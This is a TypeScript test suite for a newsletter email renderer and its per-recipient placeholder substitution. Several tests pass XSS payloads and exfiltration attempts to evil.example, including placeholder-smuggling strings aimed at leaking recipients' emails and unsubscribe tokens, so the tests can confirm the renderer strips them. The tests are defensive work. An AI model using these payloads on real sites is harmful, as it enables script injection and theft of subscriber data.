import type { EmailPost, EmailSource } from './email-source';
import { DomUtils, parseDocument } from 'htmlparser2';
import { createPersonalizer } from './placeholders';
import { renderEmail } from './render-email';

const site = {
  url: 'https://site.example',
  title: 'Tides & Co',
  newsletter: null,
  logo: null,
  accentColor: '#ff0055',
  language: 'en',
  timezone: 'Etc/UTC',
};

function sourceOf(html: string, post: Partial<EmailPost> = {}): EmailSource {
  return {
    site,
    post: {
      title: 'A post',
      html,
      url: 'https://site.example/a-post/',
      isOnSite: true,
      isForPaying: false,
      subject: 'A post',
      excerpt: null,
      publishedAt: new Date('2026-11-22T12:00:00Z'),
      featureImage: null,
      featureImageAlt: null,
      featureImageCaption: null,
      authors: ['Ada'],
      ...post,
    },
  };
}

const htmlOf = async (html: string, post?: Partial<EmailPost>): Promise<string> =>
  (await renderEmail(sourceOf(html, post))).paid.html;

describe('renderEmail', () => {
  it('has the title, the author, the date, a link to the post and an accent colour in the style of links', async () => {
    const html = await htmlOf('<p><a href="/more/">More</a></p>');
    expect(html).toContain('By Ada · November 22, 2026');
    expect(html).toContain('View in browser');
    expect(html).toMatch(/<a href="https:\/\/site\.example\/more\/" style="color: #ff0055;/);
  });

  it('shows no link target beside the subject, but other text in brackets', async () => {
    const link = (text: string) => `<a href="https://x.example/${'y'.repeat(300)}">${text}</a>`;
    const mail = await htmlOf(`<p>[Update] ${['One', 'Two', 'Three', 'Four'].map(link).join(', ')}.</p>`);
    expect(mail).toContain('>[Update] One, Two, Three, Four.');
  });

  it('shows no half of an emoji where the text beside the subject is cut', async () => {
    const excerpt = `${'a'.repeat(139)}🌊 and more`;
    expect(await htmlOf('<p>Text</p>', { excerpt })).toContain(`>${'a'.repeat(139)}…</div>`);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<svg onload="alert(1)"></svg>',
    '<form action="https://evil.example"><input name="q"></form>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<style>p{background:url(https://evil.example)}</style>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  ])('leaves out what could run or load: %s', async (content) => {
    const html = await htmlOf(content);
    const body = html.slice(html.indexOf('<body>'));
    expect(body).not.toMatch(
      /<script|<form|<input|<svg|<iframe|<meta|<style|onerror|onload|javascript:|data:text|evil/i,
    );
  });

  it.each([
    ['#ff0055', '#ff0055', '#ffffff'],
    ['#ffd400', '#15171b', '#15171b'],
    ['#fd0', '#15171b', '#15171b'],
    ['red;}', '#15171b', '#ffffff'],
  ])('has links and buttons that can be read, with the accent %s', async (accentColor, link, buttonText) => {
    const source = sourceOf(
      '<p><a href="/more/">More</a></p><div class="kg-button-card"><a href="/join/">Join</a></div>',
    );
    const { html } = (await renderEmail({ ...source, site: { ...site, accentColor } })).paid;
    expect(html).toContain(`<a href="https://site.example/more/" style="color: ${link};`);
    const [, style = ''] = /<a class="button" [^>]*style="([^"]*)"/.exec(html) ?? [];
    expect(style).toContain(`; color: ${buttonText};`);
  });

  describe('with placeholders of an author', () => {
    const links = { unsubscribeUrl: 'https://site.example/u?token=s3cret', preferencesUrl: 'https://site.example/p' };
    const recipients = ['Ada', null].map((name) => ({ name, email: 'ada@reader.example', ...links }));
    const mailsOf = async (content: string, post?: Partial<EmailPost>): Promise<string[]> => {
      const fill = createPersonalizer((await renderEmail(sourceOf(content, post))).paid);
      return recipients.map((recipient) => fill(recipient).html);
    };

    it.each([
      '<img src="https://evil.example/?%%{email}%%">',
      '<img src="https://evil.example/?%&#37;{preferences_url}%%">',
      '<img src="https://evil.example/?%%{email" title="}%%">',
      '<p>%%{name, "x<i title=\'"}%%<script>alert(1)</script>\'>y</i></p>',
      '<p><i title="%%{name"><b lang="x onmouseover=alert(1) y" title="}%%">y</b></i></p>',
      '<i title="%%{name" lang="x onmouseover=alert(1) y" dir="}%%">y</i>',
      '<p>%%<!-- -->{unsubscribe_url}%%</p>',
      '%%<!-- -->{unsubscribe_url}%%',
      '<a href="https://evil.example/?%%{unsubscribe_url}%%">x</a>',
    ])('replaces them in text only, and never by links of the recipient: %s', async (content) => {
      for (const html of await mailsOf(content)) {
        const elements = DomUtils.find(DomUtils.isTag, parseDocument(html).children, true, Infinity);
        const attributes = elements.flatMap((element) => ('attribs' in element ? Object.entries(element.attribs) : []));
        expect(attributes.filter(([name, value]) => /^on/.test(name) || /evil.*(ada|s3cret|site)/.test(value))).toEqual(
          [],
        );
        expect(DomUtils.getElementsByTagName('script', parseDocument(html).children)).toEqual([]);
        expect(html.match(/s3cret/g)).toHaveLength(1);
      }
    });

    it('are no placeholders in the fields of the post', async () => {
      const placeholder = '%%{name, "x';
      const [html = ''] = await mailsOf('<p>Text</p>', {
        title: placeholder,
        authors: [placeholder],
        featureImage: 'https://evil.example/?%%{email}%%',
        featureImageAlt: '"}%%<script>alert(1)</script>',
      });
      expect(html).not.toContain('ada@reader.example');
      expect(DomUtils.getElementsByTagName('script', parseDocument(html).children)).toEqual([]);
    });

    it('become the values of the recipient also where the text of a list is wrapped', async () => {
      const item = '<li>Please write to us now what you would most like to read, %%{first_name, "there"}%%</li>';
      const { paid } = await renderEmail(sourceOf(`<ol>${item.repeat(10)}</ol>`));
      expect(paid.text).toMatch(/\{first_name,\s{6,}"there"\}/);
      const texts = recipients.map((recipient) => createPersonalizer(paid)(recipient).text);
      expect(texts.map((text) => text.match(/read,\s+(?:Ada|there)/g)?.length)).toEqual([10, 10]);
    });

    it('become the values of the recipient in text', async () => {
      const [named, nameless] = await mailsOf('<p>Dear %%{first_name, "reader"}%%, %%{email}%%</p>');
      expect(named).toContain('Dear Ada, ada@reader.example');
      expect(nameless).toContain('Dear reader, ada@reader.example');
    });
  });

  it('turns cards into links, pictures and tables', async () => {
    const html = await htmlOf(
      `<figure class="kg-card kg-embed-card"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?x=1"></iframe></figure>
       <figure class="kg-card kg-gallery-card"><div class="kg-gallery-container"><div class="kg-gallery-row">
         <div class="kg-gallery-image"><img src="/content/images/a.png" alt="A"></div>
         <div class="kg-gallery-image"><img src="/content/images/b.png"></div></div></div></figure>
       <figure class="kg-card kg-bookmark-card"><a class="kg-bookmark-container" href="https://o.example/">
         <div class="kg-bookmark-content"><div class="kg-bookmark-title">Other &amp; more</div></div></a></figure>
       <div class="kg-card kg-callout-card"><div class="kg-callout-emoji">💡</div><div class="kg-callout-text">Hint</div></div>
       <figure class="kg-card kg-video-card" data-kg-thumbnail="/content/media/v.jpg"><video src="/v.mp4"></video></figure>`,
    );
    expect(html).toContain('href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"');
    expect(html).toContain('src="https://img.youtube.com/vi/dQw4w9WgXcQ/hqdefault.jpg"');
    expect(html).toContain('src="https://site.example/content/images/a.png" alt="A" width="296"');
    expect(html).toContain('>Other &amp; more</a>');
    expect(html).toMatch(/💡[^]*Hint/);
    expect(html).toContain('src="https://site.example/content/media/v.jpg"');
    expect(html).not.toMatch(/<video|<iframe|<figure class/);
  });

  it.each([
    ['kg-align-left', false],
    ['kg-align-center', true],
    ['', true],
  ])('aligns a button as the author chose: %s', async (alignment, isCentred) => {
    const html = await htmlOf(`<div class="kg-card kg-button-card ${alignment}"><a href="/join/">Join</a></div>`);
    const [, paragraph = ''] = /<p([^>]*)><a class="button"/.exec(html) ?? [];
    expect(paragraph.includes('text-align: center')).toBe(isCentred);
  });

  it.each([
    ['/embed/videoseries?list=PL123-_x&amp;index=2', 'https://www.youtube.com/playlist?list=PL123-_x', 'YouTube'],
    ['/embed/live_stream?channel=UC123-_x', 'https://www.youtube.com/channel/UC123-_x/live', 'YouTube'],
    ['/embed/videoseries', 'https://www.youtube.com/embed/videoseries', 'youtube.com'],
    ['/live_chat?v=dQw4w9WgXcQ', 'https://www.youtube.com/live_chat?v=dQw4w9WgXcQ', 'youtube.com'],
    ['/embed/live_stream?channel=', 'https://www.youtube.com/embed/live_stream?channel=', 'youtube.com'],
  ])('links to a frame of YouTube that is no video without a picture: %s', async (path, url, host) => {
    const html = await htmlOf(`<iframe src="https://www.youtube.com${path}"></iframe>`);
    const links = DomUtils.getElementsByTagName('a', parseDocument(html).children);
    const link = links.find(({ attribs }) => attribs.href?.includes('youtube'));
    expect(link?.attribs.href).toBe(url);
    expect(link && DomUtils.textContent(link)).toBe(`▶ Open on ${host}`);
    expect(html).not.toContain('<img');
  });

  describe('videos', () => {
    const linkOf = async (attributes: string, poster = 'https://img.spacergif.org/v1/640x360/0a/spacer.png') => {
      const html = await htmlOf(
        `<figure class="kg-card kg-video-card" ${attributes}><video src="/v.mp4" poster="${poster}"></video></figure>`,
      );
      const pictures = DomUtils.getElementsByTagName('img', parseDocument(html).children);
      return { text: html.includes('▶ Watch the video'), pictures: pictures.map(({ attribs }) => attribs.src) };
    };

    it.each([
      [
        'the uploaded one',
        'data-kg-thumbnail=/content/media/a.jpg data-kg-custom-thumbnail=/content/images/b.jpg',
        'b',
      ],
      ['the automatic one', 'data-kg-thumbnail=/content/media/a.jpg data-kg-custom-thumbnail=', 'a'],
      [
        'the uploaded one without an automatic one',
        'data-kg-thumbnail= data-kg-custom-thumbnail=/content/images/b.jpg',
        'b',
      ],
      [
        'the automatic one, if mail programs cannot load the uploaded one',
        'data-kg-thumbnail=/content/media/a.jpg data-kg-custom-thumbnail=data:image/png;base64,AA',
        'a',
      ],
    ])('have a thumbnail: %s', async (_, attributes, name) => {
      const { pictures } = await linkOf(attributes);
      expect(pictures).toEqual([
        expect.stringMatching(new RegExp(`^https://site\\.example/content/\\w+/${name}\\.jpg$`)),
      ]);
    });

    it.each([
      'data-kg-thumbnail= data-kg-custom-thumbnail=',
      'data-kg-thumbnail="data-kg-custom-thumbnail="',
      'data-kg-thumbnail="" data-kg-custom-thumbnail=""',
      '',
    ])('without a thumbnail are a link without a picture: %s', async (attributes) => {
      expect(await linkOf(attributes)).toEqual({ text: true, pictures: [] });
    });

    it('have the poster of their own html', async () => {
      expect((await linkOf('', '/content/images/p.jpg')).pictures).toEqual([
        'https://site.example/content/images/p.jpg',
      ]);
    });
  });

  it('ends at the paywall for free members, and has no mail for them without one', async () => {
    const walled = await renderEmail(sourceOf('<p>FREE</p><!--members-only--><p>PAID</p>', { isForPaying: true }));
    expect(walled.free?.html).toMatch(/FREE[^]*Upgrade to read on/);
    expect(`${walled.free?.html}${walled.free?.text}`).not.toContain('PAID');
    expect(walled.paid.html).toContain('PAID');
    expect((await renderEmail(sourceOf('<p>PAID</p>', { isForPaying: true }))).free).toBeNull();
  });

  it('shows blocks of cards to their readers only', async () => {
    const block =
      '<!--kg-gated-block:begin nonMember:false memberSegment:"status:-free" --><p>BLOCK</p><!--kg-gated-block:end-->';
    const { free, paid } = await renderEmail(sourceOf(`<p>All</p>${block}`));
    expect(free?.html).not.toContain('BLOCK');
    expect(paid.html).toContain('BLOCK');
  });

  it('stays below the size at which Gmail hides the end, and links to the rest', async () => {
    const html = await htmlOf('<p>Some words in a <a href="https://x.example/">paragraph</a>.</p>'.repeat(3_000));
    expect(Buffer.byteLength(html)).toBeLessThan(102_000);
    expect(html).toContain('Read the rest on the web');
    expect(html).toContain('%%{unsubscribe_url}%%');
  });

  it.each([
    [
      'a list',
      `<ol start="3">${Array.from({ length: 1_500 }, (_, n) => `<li>${'x'.repeat(60)} ${n}</li>`).join('')}</ol>`,
    ],
    [
      'a list in other elements',
      `<div><section><ul>${`<li>${'x'.repeat(80)}</li>`.repeat(1_500)}</ul></section></div>`,
    ],
    ['a paragraph', `<p>${'words '.repeat(20_000)}</p>`],
  ])('contains the beginning of %s that is larger than a mail', async (_, html) => {
    const mail = await htmlOf(html);
    const size = Buffer.byteLength(mail);
    expect([size > 60_000, size < 102_000]).toEqual([true, true]);
    expect(mail).toContain('Read the rest on the web');
  });

  it.each([0, 3])('continues the numbers of a divided list that starts at %i', async (first) => {
    const items = Array.from({ length: 400 }, (_, n) => `<li>Item ${n + first}.${'x'.repeat(60)}</li>`).join('');
    const mail = await htmlOf(`<ol start="${first}">${items}</ol>`);
    expect(mail).toMatch(new RegExp(`<ol start="${first}"[^>]*><li[^>]*>Item ${first}\\.`));
    const secondList = mail.slice(mail.indexOf('</ol>'));
    const [, start, item] = /<ol start="(\d+)"[^>]*><li[^>]*>Item (\d+)\./.exec(secondList) ?? [];
    expect(Number(start)).toBeGreaterThan(3);
    expect(item).toBe(start);
  });

  it('has no link to a page for a post by e-mail only', async () => {
    const html = await htmlOf('<p>Only here</p>', { isOnSite: false });
    expect(html).not.toContain('View in browser');
    expect(html).not.toContain('https://site.example/a-post/');
  });

  it('links to the media, and has no links to its own parts, in a post by e-mail only', async () => {
    const content = `<figure class="kg-card kg-video-card"><video src="/content/media/v.mp4"></video></figure>
      <div class="kg-card kg-audio-card"><audio><source src="/content/media/a.mp3"></audio></div>
      <video src="data:video/mp4;base64,AA"></video><p>See <a href="#note">the note</a> or <a href="more/">more</a>.</p>`;
    const html = await htmlOf(content, { isOnSite: false });
    const links = DomUtils.getElementsByTagName('a', parseDocument(html).children).map(({ attribs }) => attribs.href);
    expect(links.filter((href) => !/^%%|^https:\/\/site\.example\/?$/.test(href ?? ''))).toEqual([
      'https://site.example/content/media/v.mp4',
      'https://site.example/content/media/a.mp3',
    ]);
    expect(html).toContain('>See the note or more.</p>');
    expect(
      (await htmlOf(content)).match(/"https:\/\/site\.example\/a-post\/(?:#note|more\/)?"/g)?.length,
    ).toBeGreaterThan(4);
  });

  it.each([
    ['', undefined],
    ['width="24"', '24'],
    ['width="300px"', '300'],
    ['width="2000"', '600'],
    ['width="50%"', undefined],
    ['width="auto"', undefined],
  ])('has pictures with %s no larger than they are, and than the mail', async (width, expected) => {
    const html = await htmlOf(`<p><img src="/content/images/a.png" ${width}></p>`);
    const [image] = DomUtils.getElementsByTagName('img', parseDocument(html).children);
    expect([image?.attribs.width, image?.attribs.style]).toEqual([
      expected,
      expect.stringContaining('max-width: 100%'),
    ]);
  });

  it('shows neighbouring blocks on lines of their own', async () => {
    const { html, text } = (
      await renderEmail(
        sourceOf(
          '<details><summary>One</summary>Two</details><article><header>Three</header>Four<footer>Five</footer></article>' +
            '<div><aside>Six</aside><address>Seven</address><div>Eight</div></div>',
        ),
      )
    ).paid;
    expect(text).toContain('\nOne\nTwo\nThree\nFour\nFive\nSix\nSeven\nEight\n');
    expect(html).toContain('<div><div>One</div>Two</div><div><div>Three</div>Four<div>Five</div></div>');
  });

  it('has its fixed texts and its date in the language of the site', async () => {
    const german = sourceOf('<p>Hallo</p>');
    const { paid } = await renderEmail({ ...german, site: { ...site, language: 'de-AT' } });
    expect(paid.html).toMatch(
      /<html lang="de-AT">[^]*Von Ada · 22\. November 2026[^]*Im Browser ansehen[^]*Abbestellen/,
    );
    expect(paid.text).toContain('Einstellungen ändern: %%{preferences_url}%%');
    expect(paid.html + paid.text).not.toMatch(/View in browser|Unsubscribe/);
  });

  it('shows the feature image with its caption, without what could run in it', async () => {
    const html = await htmlOf('<p>x</p>', {
      featureImage: 'https://site.example/a.png',
      featureImageAlt: 'A "tide"',
      featureImageCaption: 'By <a href="/ada/" onclick="x()">Ada</a>',
    });
    expect(html).toContain('alt="A &quot;tide&quot;"');
    expect(html).toMatch(/<p class="caption center"[^>]*>By <a href="https:\/\/site\.example\/ada\/"/);
    expect(html).not.toContain('onclick');
  });

  it('accepts html that is broken, or deeper than the parser can take', async () => {
    for (const broken of ['<p><b>open', '<div>'.repeat(2_000) + 'deep', '<table><td>cell', '']) {
      expect(await htmlOf(broken)).toContain('</html>');
    }
    expect(await htmlOf('<div>'.repeat(2_000) + 'deep')).toContain('deep');
    expect(await htmlOf('<div><!--</div>-->'.repeat(6_000) + 'deep')).toContain('deep');
    // A regular expression for tags would take minutes.
    expect(await htmlOf('<b>'.repeat(301) + '<'.repeat(200_000) + 'end')).toContain('end');
  });
});
